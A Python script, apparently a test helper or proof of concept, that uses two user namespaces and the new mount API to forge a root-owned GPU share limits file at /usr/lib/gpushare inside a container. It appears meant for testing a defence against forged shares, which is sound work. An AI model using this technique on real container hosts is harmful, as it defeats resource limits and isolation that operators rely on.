"""Make a forged share with two user namespaces: python3 forge_from_two.py STATE [DONE] <limits. Write "made" into the
file DONE, if given, and sleep.

The first namespace maps the host's uid 0, so its tmpfs has files of that owner. It passes the detached mount to a
second namespace, which does not map that uid. Needs CAP_SETUID and CAP_SETGID in a container, which engines grant.
"""

from __future__ import annotations

import ctypes
import os
import signal
import socket
import sys

_NEWUSER, _NEWNS, _MS_BIND = 0x10000000, 0x20000, 4096
_MOVE_MOUNT, _FSOPEN, _FSCONFIG, _FSMOUNT = 429, 430, 431, 432  # <asm-generic/unistd.h>
_F_EMPTY_PATH = 4  # MOVE_MOUNT_F_EMPTY_PATH
_libc = ctypes.CDLL(None, use_errno=True)


def call(name: str, result: int) -> int:
    if result < 0:
        raise OSError(ctypes.get_errno(), name)
    return result


def detached_share(state: str, limits: bytes) -> int:
    """Return the detached tmpfs of a state directory with a share in it."""
    fs = call("fsopen", _libc.syscall(_FSOPEN, b"tmpfs", 0))
    call("fsconfig", _libc.syscall(_FSCONFIG, fs, 1, b"source", state.encode(), 0))
    call("fsconfig", _libc.syscall(_FSCONFIG, fs, 6, None, None, 0))
    mount = call("fsmount", _libc.syscall(_FSMOUNT, fs, 0, 0))
    os.fchdir(mount)
    os.makedirs("containers/x/share")
    with open("containers/x/share/limits", "wb") as file:
        file.write(limits)
    return mount


def show(mount: int) -> None:
    """Mount that share at a container's usual place."""
    os.setresgid(0, 0, 0)
    os.setresuid(0, 0, 0)
    call("mount /usr/lib", _libc.mount(b"top", b"/usr/lib", b"tmpfs", 0, None))
    os.mkdir("/usr/lib/gpushare")
    call("move_mount", _libc.syscall(_MOVE_MOUNT, mount, b"", -100, b"/tmp", _F_EMPTY_PATH))
    call("mount share", _libc.mount(b"/tmp/containers/x/share", b"/usr/lib/gpushare", b"none", _MS_BIND, None))


def start(host_id: int, handed: socket.socket) -> socket.socket:
    """Start a child in new namespaces that map their 0 to `host_id`, and return the socket on which its parent
    waits."""
    above, below = socket.socketpair()
    child = os.fork()
    if child == 0:
        call("unshare", _libc.unshare(_NEWUSER | _NEWNS))
        below.send(b"unshared")
        below.recv(8)
        if host_id == 0:
            socket.send_fds(handed, [b"mount"], [detached_share(sys.argv[1], sys.stdin.buffer.read())])
        else:
            show(socket.recv_fds(handed, 8, 1)[1][0])
            below.send(b"made")
        signal.pause()
    assert above.recv(8) == b"unshared"
    for name in ("uid_map", "gid_map"):
        with open(f"/proc/{child}/{name}", "w") as file:
            file.write(f"0 {host_id} 1")
    above.send(b"mapped")
    return above


def main(done: str) -> None:
    giver, taker = socket.socketpair()
    kept = [start(0, giver), start(1000, taker)]
    assert kept[1].recv(8) == b"made"
    if done:
        with open(done, "w") as said:
            said.write("made\n")
    else:
        os.write(1, b"made\n")
    signal.pause()


main(sys.argv[2] if sys.argv[2:] else "")
